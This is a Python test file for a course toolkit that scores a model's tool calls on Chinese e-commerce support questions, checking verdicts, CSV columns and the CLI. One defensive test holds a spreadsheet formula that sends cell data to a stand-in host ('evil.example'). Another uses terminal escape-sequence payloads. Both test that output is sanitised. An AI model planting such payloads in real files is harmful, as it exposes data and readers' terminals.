"""The accuracy suite: 25 cases as the seed describes them; verdicts judged from the actual tool
calls (a scripted model makes each mistake once); the CSV's columns; the CLI."""

import csv
import datetime
import os
import subprocess
import sys
from pathlib import Path

import pytest
from full_disk import fill_disk_after

from toolkit import data
from toolkit.chat.scripted import ScriptedModel, call
from toolkit.chat.switch import fake_client
from toolkit.course.accuracy import (
    CASE_COLUMNS,
    CSV_COLUMNS,
    AccuracyCase,
    CaseResult,
    called_order_id,
    csv_text,
    judge,
    load_cases,
    report_lines,
    run_suite,
    summarize,
    write_csv,
)
from toolkit.course.shop import load_shop
from toolkit.errors import ConfigurationError
from toolkit.gateway.server import running_gateway

ROOT = Path(__file__).resolve().parents[1]
SHOP = load_shop(today=datetime.date(2026, 10, 25))


def test_the_cases_are_the_seeds_25():
    with open(data.path("accuracy_cases.csv"), encoding="utf-8", newline="") as f:
        header = next(csv.reader(f))
    assert header == [*CASE_COLUMNS, "expect_args"]
    assert CASE_COLUMNS == ["id", "group", "question", "expect_tool", "expect_order_id"]
    cases = {c.id: c for c in load_cases()}
    groups = [c.group for c in cases.values()]
    assert (len(cases), groups.count("normal"), groups.count("edge"), groups.count("no_call")) == (25, 15, 5, 5)
    assert all(not c.expect_tool for c in cases.values() if c.group == "no_call")
    assert cases["N01"].question == "帮我查一下订单 SN202610200001 现在到哪了？"
    assert cases["N02"].question == "SN202610200002 这个快递怎么三天没动了"
    assert (cases["N10"].question, cases["N10"].expect_tool) == ("衣服买了十五天还能不能换", "query_refund_policy")
    assert cases["N11"].question == "退货的运费谁出"
    assert (cases["N10"].expect_args, cases["N11"].expect_args) == ({"category": "服装"}, {})  # 退货运费: no category
    assert (cases["A05"].question, cases["A05"].expect_tool) == ("帮我把 SN202610200001 这个订单退款", "")
    assert {c.expect_tool for c in cases.values()} == {"query_order", "query_logistics", "query_refund_policy", ""}


CASES = [
    AccuracyCase("P1", "normal", "SN202610200001 到哪了", "query_logistics", "SN202610200001"),
    AccuracyCase("M1", "normal", "SN202610200002 到哪了", "query_logistics", "SN202610200002"),
    AccuracyCase("W1", "normal", "SN202610200003 什么状态", "query_order", "SN202610200003"),
    AccuracyCase("I1", "edge", "SN202610200005 的物流", "query_logistics", "SN202610200005"),
    AccuracyCase("U1", "no_call", "你好", "", ""),
]
SCRIPT = [
    call("query_logistics", orderId="SN202610200001"),
    "运输中。",  # pass
    "请稍等，我帮您看看。",  # missed_call
    call("query_logistics", orderId="SN202610200003"),
    "运输中。",  # wrong_tool
    call("query_logistics", orderId="SN202610200006"),
    "没有物流。",  # invented id
    call("query_order", orderId="SN202610200001"),
    "您好。",  # unwanted call
]


def test_a_scripted_model_making_each_mistake_once():
    results = run_suite(ScriptedModel(list(SCRIPT)), CASES, SHOP)
    assert [r.verdict for r in results] == ["pass", "missed_call", "wrong_tool", "invented_argument", "unwanted_call"]
    assert [r.model_calls for r in results] == [2, 1, 2, 2, 2]
    assert results[3].called_order_id == "SN202610200006" and results[4].called_tools == ("query_order",)
    s = summarize(results)
    # two calls invented an id: I1's, and U1's unwanted call for "你好" (counted whatever the verdict)
    assert (s.passed, s.total, s.invented_arguments, s.average_model_calls) == (1, 5, 2, 1.8)
    assert s.by_group == {"normal": (1, 3), "edge": (0, 1), "no_call": (0, 1)} and not s.meets_pass_line


def test_judging_reads_the_calls_not_the_answer():
    case = CASES[0]
    assert judge(case, [])[0] == "missed_call"  # even if the answer text says "运输中"
    ok = call("query_logistics", orderId="订单号：sn2026-1020-0001")
    assert judge(case, [ok]) == ("pass", "SN202610200001")
    repaired = [call("query_logistics", orderId="20261020001"), call("query_logistics", orderId="SN202610200001")]
    assert judge(case, repaired) == ("pass", "SN202610200001")
    both = [call("query_order", orderId="SN202610200001"), call("query_logistics", orderId="SN202610200001")]
    assert judge(case, both)[0] == "pass"  # the whole set of calls counts, not the first


@pytest.mark.parametrize(
    "arguments, order_id",
    [
        ('{"orderId": "SN202610200001"}', "SN202610200001"),
        ('{"orderId": "202610200001"}', "202610200001"),
        ('{"orderId": 202610200001}', "202610200001"),
        ("{orderId: SN202610200001}", ""),  # broken JSON is never shown as an id
        ('{"category": "服装"}', ""),
    ],
)
def test_called_order_id(arguments, order_id):
    assert called_order_id([call("query_order", arguments)]) == order_id


def test_csv_columns_exactly(tmp_path):
    results = run_suite(ScriptedModel(list(SCRIPT)), CASES, SHOP)
    path = write_csv(results, tmp_path / "sub" / "out.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:9] == [
        "id",
        "group",
        "question",
        "expect_tool",
        "expect_order_id",
        "called_tools",
        "called_order_id",
        "verdict",
        "model_calls",
    ]
    assert rows[0] == CSV_COLUMNS and rows[0][9:] == ["invented_arguments", "expect_args", "error"]
    assert rows[1] == [
        "P1",
        "normal",
        "SN202610200001 到哪了",
        "query_logistics",
        "SN202610200001",
        "query_logistics",
        "SN202610200001",
        "pass",
        "2",
        "0",
        "",
        "",
    ]
    assert len(rows) == 6


def test_a_disk_that_fills_part_way_leaves_the_earlier_csv_whole(tmp_path, monkeypatch):
    """Before: `write_csv` (and `toolkit eval --out`) wrote over last run's CSV in place, so a full disk
    (or a kill) part way left it truncated; now it is replaced whole or not at all."""
    results = run_suite(ScriptedModel(list(SCRIPT)), CASES, SHOP)
    path = tmp_path / "out.csv"
    path.write_text("id,verdict\nlast-run,pass\n")
    fill_disk_after(monkeypatch, 100)
    with pytest.raises(OSError, match="No space left on device"):
        write_csv(results, path)
    monkeypatch.undo()
    assert path.read_text() == "id,verdict\nlast-run,pass\n"
    assert os.listdir(tmp_path) == ["out.csv"]


def test_the_report_by_group_and_the_pass_line():
    lines = report_lines(run_suite(ScriptedModel(list(SCRIPT)), CASES, SHOP))
    assert lines[0] == "[PASS] P1 SN202610200001 到哪了 → query_logistics (SN202610200001)"
    assert lines[1] == "[FAIL] M1 SN202610200002 到哪了 → (no call)  [missed_call: expected query_logistics]"
    assert lines[5:] == [
        "normal   1 / 3",
        "edge     0 / 1",
        "no_call  0 / 1",
        "tool-selection accuracy: 1 / 5 = 20.0% (pass line 85%: NOT met)",
        "average model calls: 1.8 per case",
        "invented arguments: 2",
    ]


def test_concurrency_keeps_the_order_and_the_verdicts():
    cases = load_cases()
    one = run_suite(fake_client(), cases, SHOP, concurrency=1)
    seen = []
    four = run_suite(fake_client(), cases, SHOP, concurrency=4, progress=lambda d, t, r: seen.append((d, t)))
    assert [r.row() for r in one] == [r.row() for r in four]
    assert sorted(seen) == [(i, 25) for i in range(1, 26)]


def test_a_gateway_failure_is_an_error_verdict_not_a_crash():
    results = run_suite(fake_client(mode="C"), CASES[:1], SHOP)
    assert results[0].verdict == "error" and "unknown field: tools" in results[0].answer


def test_a_malformed_cases_file_names_the_row(tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text("id,group,question,expect_tool,expect_order_id\nQ1,weird,你好,,\n", encoding="utf-8")
    with pytest.raises(ConfigurationError, match=r"line 2 \(Q1\): group 'weird'"):
        load_cases(path)


def eval_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("LLM_")}
    return subprocess.run(
        [sys.executable, "-m", "toolkit", "eval", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300
    )


def test_cli_on_the_embedded_gateway_is_deterministic(tmp_path):
    first = eval_cli("--out", "a.csv", "--today", "2026-10-25", cwd=tmp_path)
    second = eval_cli("--out", "b.csv", "--today", "2026-10-25", "--concurrency", "1", cwd=tmp_path)
    assert first.stdout.replace("a.csv", "X") == second.stdout.replace("b.csv", "X")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    lines = first.stdout.splitlines()
    assert lines[0] == "running 25 cases against embedded fake keyword gateway (in-process, mode A)"
    assert lines[-1] == "wrote a.csv" and first.stderr == ""  # no progress noise for the fake gateway
    assert any(line.startswith("tool-selection accuracy: ") for line in lines)
    with open(tmp_path / "a.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 25 and list(rows[0]) == CSV_COLUMNS
    assert first.returncode == (0 if summarize_rows(rows) >= 0.85 else 1)


def summarize_rows(rows) -> float:
    return sum(r["verdict"] == "pass" for r in rows) / len(rows)


def test_cli_prompt_protocol_on_a_gateway_that_rejects_tools(tmp_path):
    done = eval_cli("--fake-mode", "C", "--protocol", "prompt", "--out", "c.csv", cwd=tmp_path)
    assert "tools described in the system prompt" in done.stdout.splitlines()[0]
    with open(tmp_path / "c.csv", encoding="utf-8-sig", newline="") as f:
        verdicts = [r["verdict"] for r in csv.DictReader(f)]
    assert len(verdicts) == 25 and "error" not in verdicts


def test_cli_shows_progress_for_a_real_gateway(tmp_path):
    cases = tmp_path / "cases.csv"
    cases.write_text(
        "id,group,question,expect_tool,expect_order_id\n"
        "Q1,normal,SN202610200001 到哪了,query_logistics,SN202610200001\n"
        "Q2,no_call,你好,,\nQ3,no_call,谢谢,,\n",
        encoding="utf-8",
    )
    with running_gateway(mode="A") as url:
        done = eval_cli(
            "--cases",
            str(cases),
            "--base-url",
            url,
            "--api-key",
            "k",
            "--model",
            "m",
            "--concurrency",
            "2",
            cwd=tmp_path,
        )
    progress = done.stderr.splitlines()
    assert [line.split("]")[0] for line in progress] == ["[ 1/3", "[ 2/3", "[ 3/3"]
    assert done.returncode == 0 and "tool-selection accuracy: 3 / 3 = 100.0%" in done.stdout


B02 = AccuracyCase(
    "B02", "edge", "SN202610200001 到哪了？另外这个手机不满意的话能退吗", "query_logistics", "SN202610200001"
)
N05 = AccuracyCase("N05", "normal", "SN202610200003 这个订单现在是什么状态？", "query_order", "SN202610200003")
N10 = AccuracyCase("N10", "normal", "衣服买了二十天还能换吗", "query_refund_policy", "", {"category": "服装"})


def test_the_verdict_does_not_depend_on_the_calls_order():
    logistics = call("query_logistics", orderId="SN202610200001")
    policy = call("query_refund_policy", category="数码")
    assert judge(B02, [logistics, policy]) == judge(B02, [policy, logistics]) == ("pass", "SN202610200001")


def test_an_invented_id_in_a_later_call_is_seen():
    calls = [call("query_order", orderId="SN202610200003"), call("query_order", orderId="SN202610200008")]
    assert judge(N05, calls) == ("invented_argument", "SN202610200003|SN202610200008")


def test_an_invented_call_beside_the_right_one_fails_a_question_without_an_id():
    calls = [call("query_refund_policy", category="服装"), call("query_order", orderId="SN202610200001")]
    assert judge(N10, calls)[0] == "invented_argument"


def test_a_spaced_id_in_the_question_counts_as_given():
    case = AccuracyCase("B04", "edge", "订单号是 sn 2026 1020 0005，帮我看看", "query_order", "")
    assert judge(case, [call("query_order", orderId="SN202610200005")])[0] == "pass"
    wide = AccuracyCase("W", "edge", "订单号是 ＳＮ２０２６１０２０００１０，帮我看看", "query_order", "")
    assert judge(wide, [call("query_order", orderId="SN202610200010")])[0] == "pass"


def test_expect_args_judges_every_expected_argument():
    assert judge(N10, [call("query_refund_policy", category="数码")])[0] == "wrong_argument"
    assert judge(N10, [call("query_refund_policy", category=" 服装 ")])[0] == "pass"  # what validation accepts
    assert judge(N10, [call("query_refund_policy", asOf="2026-10-20")])[0] == "wrong_argument"
    without = AccuracyCase("N10", "normal", N10.question, "query_refund_policy", "")
    assert judge(without, [call("query_refund_policy", category="数码")])[0] == "pass"  # no column: as before


def test_arguments_that_are_not_json_are_malformed_not_invented():
    case = CASES[0]
    assert judge(case, [call("query_logistics", "{orderId: SN202610200001}")]) == ("malformed_arguments", "")
    repaired = [call("query_logistics", "{orderId: SN202610200001}"), call("query_logistics", orderId="SN202610200001")]
    assert judge(case, repaired) == ("pass", "SN202610200001")  # the repair round worked
    assert judge(case, [call("query_logistics", '["SN202610200001"]')])[0] == "malformed_arguments"


def test_invented_arguments_counts_every_call_in_every_case():
    cases = [
        AccuracyCase("X1", "no_call", "你好", "", ""),
        AccuracyCase("X2", "normal", "SN202610200003 什么状态", "query_logistics", "SN202610200003"),
        N05,
    ]
    script = [
        call("query_order", orderId="SN202610200001"),  # unwanted, and invented
        "好的。",
        call("query_order", orderId="SN202610200004"),  # wrong tool, and invented
        "好的。",
        [call("query_order", orderId="SN202610200003"), call("query_order", orderId="SN202610200008")],
        "好的。",
    ]
    results = run_suite(ScriptedModel(script), cases, SHOP)
    assert [(r.verdict, r.invented) for r in results] == [
        ("unwanted_call", 1),
        ("wrong_tool", 1),
        ("invented_argument", 1),
    ]
    assert summarize(results).invented_arguments == 3
    assert report_lines(results)[-1] == "invented arguments: 3"


def test_cases_may_carry_expect_args(tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text(
        "id,group,question,expect_tool,expect_order_id,expect_args\n"
        'Q1,normal,衣服能换吗,query_refund_policy,,"{""category"": ""服装""}"\nQ2,no_call,你好,,,\n',
        encoding="utf-8",
    )
    assert [c.expect_args for c in load_cases(path)] == [{"category": "服装"}, {}]
    path.write_text(
        "id,group,question,expect_tool,expect_order_id,expect_args\nQ1,normal,衣服能换吗,query_refund_policy,,服装\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigurationError) as info:
        load_cases(path)
    assert str(info.value) == (
        f"accuracy cases {path}, line 2 (Q1): expect_args '服装' is not a JSON object. "
        'Write it like {"category": "服装"}, or leave it empty'
    )


def test_a_rejected_tools_field_is_reported_on_stderr_and_in_the_csv(tmp_path):
    done = eval_cli("--fake-mode", "C", "--out", "c.csv", cwd=tmp_path)
    first, advice = done.stderr.splitlines()
    assert first.startswith("25 of 25 cases failed on the gateway: CallerError: HTTP 400: unknown field: tools")
    assert (
        advice == "the gateway rejects the `tools` field: rerun with --protocol prompt (the prompt-protocol fallback)"
    )
    with open(tmp_path / "c.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["verdict"] for r in rows} == {"error"}
    assert rows[0]["error"].startswith("CallerError: HTTP 400: unknown field: tools")


def test_a_wrong_argument_line_names_the_expected_arguments():
    results = run_suite(ScriptedModel([call("query_refund_policy", category="数码"), "可以。"]), [N10], SHOP)
    assert report_lines(results)[0] == (
        "[FAIL] N10 衣服买了二十天还能换吗 → query_refund_policy  "
        '[wrong_argument: expected query_refund_policy {"category": "服装"}]'
    )


def test_the_expected_id_is_compared_as_validation_normalises_it():
    """A cases file writing `sn 2026-1020-0001` judged a model that sent the id right (and every
    tool received `SN202610200001`) as invented_argument."""
    right = [call("query_order", orderId="SN202610200001")]
    wide = "".join(chr(ord(c) + 0xFEE0) for c in "SN202610200001")  # full-width
    for written in ("sn202610200001", "SN 2026 1020 0001", wide):
        case = AccuracyCase("N", "normal", f"{written} 什么状态", "query_order", written)
        assert judge(case, right) == ("pass", "SN202610200001"), written
    other = AccuracyCase("N", "normal", "sn202610200001 什么状态", "query_order", "sn202610200001")
    assert judge(other, [call("query_order", orderId="SN202610200002")])[0] == "invented_argument"


def test_an_id_with_unicode_dashes_in_the_question_counts_as_given():
    """Validation accepts `SN—2026—1020—0002` (em dashes, U+2212 minus...); the question's id
    was found only with ASCII dashes, so passing it on was counted as invented."""
    for dash in ("\u2014", "\u2013", "\u2212", "\u2010"):
        case = AccuracyCase("B", "edge", f"查一下 SN{dash}2026{dash}1020{dash}0002", "query_order", "")
        assert judge(case, [call("query_order", orderId="SN202610200002")])[0] == "pass", dash


def test_expect_args_compares_json_values_true_is_not_1():
    case = AccuracyCase("N", "normal", "q", "query_order", "", {"count": 1, "tags": [True]})
    assert judge(case, [call("query_order", count=True, tags=[True])])[0] == "wrong_argument"
    assert judge(case, [call("query_order", count=1, tags=[1])])[0] == "wrong_argument"
    assert judge(case, [call("query_order", count=1.0, tags=[True])])[0] == "pass"


def test_a_cases_file_saved_by_excel_is_read(tmp_path):
    """Excel's "CSV UTF-8" starts with a byte-order mark: the header read `\\ufeffid` and the file
    was refused as having the wrong columns (CRLF line ends too)."""
    text = Path(data.path("accuracy_cases.csv")).read_text(encoding="utf-8")
    saved = tmp_path / "cases.csv"
    saved.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
    assert load_cases(saved) == load_cases()


@pytest.mark.parametrize(
    "row, message",
    [
        (
            "Q1,normal,查一下 SN202610200001,query_orders,SN202610200001",
            "line 2 (Q1): expect_tool 'query_orders' is not one of the assistant's tools (query_order, "
            "query_logistics, query_refund_policy). Fix that row, or leave it empty for a question that needs no tool",
        ),
        (
            "Q2,normal,查一下 SN2026102,query_order,SN2026102",
            "line 2 (Q2): expect_order_id 'SN2026102' is not an order id (SN and 12 digits). Fix that row, or leave it empty",
        ),
    ],
)
def test_a_typo_in_an_expectation_names_the_row(tmp_path, row, message):
    """A misspelt expect_tool (or an id that cannot be one) failed its case quietly on every run,
    counted as the model's mistake."""
    path = tmp_path / "cases.csv"
    path.write_text(f"id,group,question,expect_tool,expect_order_id\n{row}\n", encoding="utf-8")
    with pytest.raises(ConfigurationError) as raised:
        load_cases(path)
    assert str(raised.value) == f"accuracy cases {path}, {message}"


@pytest.mark.parametrize(
    "status, body, said",
    [
        (
            404,
            '{"error":{"message":"No endpoints found that support tool use.","code":404}}',
            "CallerError: HTTP 404: No endpoints found that support tool use. — the model (or every provider serving it) "
            "takes no tools",
        ),
        (
            500,
            '{"error":{"code":500,"message":"tools param requires --jinja flag","type":"server_error"}}',
            "CallerError: HTTP 500: tools param requires --jinja flag — the server was started without what tool "
            "calling needs (--jinja)",
        ),
    ],
)
def test_tools_refused_with_a_404_or_a_500_get_the_fallback_advice(tmp_path, status, body, said):
    """OpenRouter (404) and llama.cpp without --jinja (500) refuse tools with other statuses than 400:
    stderr named the failure but not the way out, and the probe (verdict C) knows it."""
    from tests.loopback import refusing_tools, serving

    cases = tmp_path / "cases.csv"
    cases.write_text(f"{','.join(CASE_COLUMNS)}\nQ1,normal,SN202610200001 到哪了,query_logistics,SN202610200001\n")
    with serving(refusing_tools(status, body)) as port:
        url = f"http://127.0.0.1:{port}/v1"
        done = eval_cli("--cases", str(cases), "--base-url", url, "--api-key", "k", "--model", "m", cwd=tmp_path)
    first, advice = done.stderr.splitlines()[-2:]
    assert first.startswith(f"1 of 1 case failed on the gateway: {said}")  # not "1 of 1 cases"
    assert done.stdout.startswith("running 1 case against ")  # not "running 1 cases"
    assert (
        advice == "the gateway rejects the `tools` field: rerun with --protocol prompt (the prompt-protocol fallback)"
    )


ARGS_HEADER = "id,group,question,expect_tool,expect_order_id,expect_args\n"


@pytest.mark.parametrize(
    "row, message",
    [
        (
            'Q1,normal,衣服能换吗,query_refund_policy,,"{""categroy"": ""服装""}"',
            "line 2 (Q1): expect_args names categroy, which query_refund_policy does not take (it takes category, "
            "asOf). Fix that row",
        ),
        (
            'Q1,no_call,你好,,,"{""category"": ""服装""}"',
            "line 2 (Q1): expect_args is set but expect_tool is empty: a question that needs no tool has no "
            "arguments to check. Fix that row",
        ),
        (
            'Q1,normal,衣服能换吗,query_refund_policy,,"{""category"": ""衣服""}"',
            "line 2 (Q1): expect_args category '衣服' is a value query_refund_policy never accepts "
            "(服装、数码、生鲜、家居 四个类别之一；判断不了商品属于哪一类时，请询问用户). Fix that row",
        ),
        (
            'Q1,normal,衣服能换吗,query_refund_policy,,"{""category"": 5}"',
            "line 2 (Q1): expect_args category 5 is a value query_refund_policy never accepts (a string). Fix that row",
        ),
        (
            'Q1,normal,衣服能换吗,query_refund_policy,,"{""category"": NaN}"',
            "line 2 (Q1): expect_args '{\"category\": NaN}' is not a JSON object. "
            'Write it like {"category": "服装"}, or leave it empty',
        ),
    ],
)
def test_expect_args_that_no_call_could_match_name_the_row(tmp_path, row, message):
    """An argument the tool does not take, a value validation never lets through, NaN (never equal
    to itself), or arguments for a question with no expected tool: the case failed (or was
    ignored) quietly on every run, counted as the model's mistake."""
    path = tmp_path / "cases.csv"
    path.write_text(f"{ARGS_HEADER}{row}\n", encoding="utf-8")
    with pytest.raises(ConfigurationError) as raised:
        load_cases(path)
    assert str(raised.value) == f"accuracy cases {path}, {message}"


def test_a_cases_file_with_no_case_is_refused(tmp_path):
    """It ran nothing and reported "0 / 0 = 0.0% (pass line 85%: NOT met)": an accuracy never measured."""
    path = tmp_path / "cases.csv"
    path.write_text(ARGS_HEADER, encoding="utf-8")
    with pytest.raises(ConfigurationError) as raised:
        load_cases(path)
    assert str(raised.value) == (
        f"accuracy cases {path}: no case, only the header row. Add one row per question, e.g. "
        "N01,normal,帮我查一下订单 SN202610200001 现在到哪了？,query_logistics,SN202610200001"
    )


def test_a_report_with_no_finished_case_measures_nothing():
    assert report_lines([])[-3:] == [
        "tool-selection accuracy: no case finished, nothing measured",
        "average model calls: 0.0 per case",
        "invented arguments: 0",
    ]


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(tmp_path):
    """Before: the model's order id, the gateway's error text and the cases file's question went into
    the CSV as they came, so a teacher opening it in a spreadsheet ran `=HYPERLINK(…)` (the model's
    arguments and a gateway's message are anyone's text). Now such a cell starts with `'`."""
    cases = [
        AccuracyCase("F1", "normal", "-1 元能退吗 SN202610200001", "query_order", "SN202610200001"),
        AccuracyCase("F2", "normal", "@SN202610200001 什么状态", "query_order", "SN202610200001"),
    ]
    script = [call("query_order", orderId=FORMULA), "好的。", call("query_order", orderId="+1+2"), "好的。"]
    path = write_csv(run_suite(ScriptedModel(script), cases, SHOP), tmp_path / "out.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["question"], r["called_order_id"]) for r in rows] == [
        ("'-1 元能退吗 SN202610200001", "'" + FORMULA),
        ("'@SN202610200001 什么状态", "'+1+2"),
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_the_course_map_gives_the_cases_files_headers_as_read():
    """notebooks/README tells teachers the columns of a cases file; before, it left out the accuracy
    suite's optional `expect_args` (the column N10 uses), so a teacher could not check an argument."""
    from toolkit.course.accuracy import OPTIONAL_COLUMNS
    from toolkit.course.drill import COLUMNS

    course_map = (ROOT / "notebooks" / "README.md").read_text(encoding="utf-8")
    optional = "".join(f"[,{column}]" for column in OPTIONAL_COLUMNS)
    assert f"`{','.join(CASE_COLUMNS)}{optional}`" in course_map
    assert f"`{','.join(COLUMNS)}`" in course_map


def test_a_share_just_under_the_pass_line_is_never_shown_as_the_pass_line():
    """Before: 339 / 399 (84.96%) read "85.0% (pass line 85%: NOT met)": the number met the line it failed."""
    from toolkit.views.week3 import render_accuracy_html

    case = AccuracyCase("N", "normal", "你好", "")
    results = [CaseResult(case, (), "", "pass" if i < 339 else "unwanted_call", 1) for i in range(399)]
    assert report_lines(results)[-3] == "tool-selection accuracy: 339 / 399 = 84.9% (pass line 85%: NOT met)"
    assert "339 / 399 = 84.9%" in render_accuracy_html(results)
    almost = [CaseResult(case, (), "", "pass" if i < 1999 else "unwanted_call", 1) for i in range(2000)]
    assert report_lines(almost)[-3] == "tool-selection accuracy: 1999 / 2000 = 99.9% (pass line 85%: met)"


def test_a_question_written_over_two_lines_is_one_line_of_the_report():
    """Before: a quoted question's line break split its case over two lines of the CLI report
    ("one line per case"), the second looking like a case of its own."""
    from toolkit.course.accuracy import case_line

    case = AccuracyCase("N9", "normal", "你好\r\n请问\n退货规则", "")
    assert case_line(CaseResult(case, (), "", "pass", 1)) == "[PASS] N9 你好 请问 退货规则 → (no call)"


def test_the_csv_file_starts_with_a_bom_so_excel_reads_its_chinese(tmp_path):
    """Before: UTF-8 without a BOM, which Excel reads as the local code page: the Chinese questions
    showed as mojibake. Now a BOM, as pandas users write for Excel (`encoding="utf-8-sig"`), which
    pandas and `utf-8-sig` read; the text for a stream (stdout) has none."""
    results = run_suite(ScriptedModel(list(SCRIPT)), CASES, SHOP)
    path = write_csv(results, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,group,question,") and raw.count(b"\xef\xbb\xbf") == 1
    assert raw.decode("utf-8-sig") == csv_text(results) and not csv_text(results).startswith("\ufeff")
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert [r["id"] for r in csv.DictReader(f)] == [c.id for c in CASES]


def test_what_a_hostile_model_or_gateway_sent_reaches_the_terminal_as_code_points():
    """Before: `toolkit eval` printed the model's tool names and order id, and the gateway's error, as they came:
    a name holding `\\x1b]0;…\\x07\\x1b[2J` retitled and cleared the teacher's terminal, a right-to-left override
    read the rest of the line backwards, a line break in an error made lines of its own. Now each such character
    is written as its code point (`toolkit.views.html.flat`), as the notebook's text shows it."""
    from toolkit.cli.eval import failure_lines

    called = CaseResult(N10, ("query_order\x1b]0;owned\x07\x1b[2J", "a\u202eb"), "SN1\x1b[31m\nx", "wrong_tool", 2)
    assert report_lines([called])[0] == (
        "[FAIL] N10 衣服买了二十天还能换吗 → query_order⟨U+001B⟩]0;owned⟨U+0007⟩⟨U+001B⟩[2J + a⟨U+202E⟩b "
        "(SN1⟨U+001B⟩[31m\\nx)  [wrong_tool: expected query_refund_policy]"
    )
    failed = CaseResult(N10, (), "", "error", 0, error="CallerError: HTTP 400: \x1b[2Jno\nmore \u202eb")
    assert failure_lines([failed], "prompt") == [
        "1 of 1 case failed on the gateway: CallerError: HTTP 400: ⟨U+001B⟩[2Jno\\nmore ⟨U+202E⟩b"
    ]
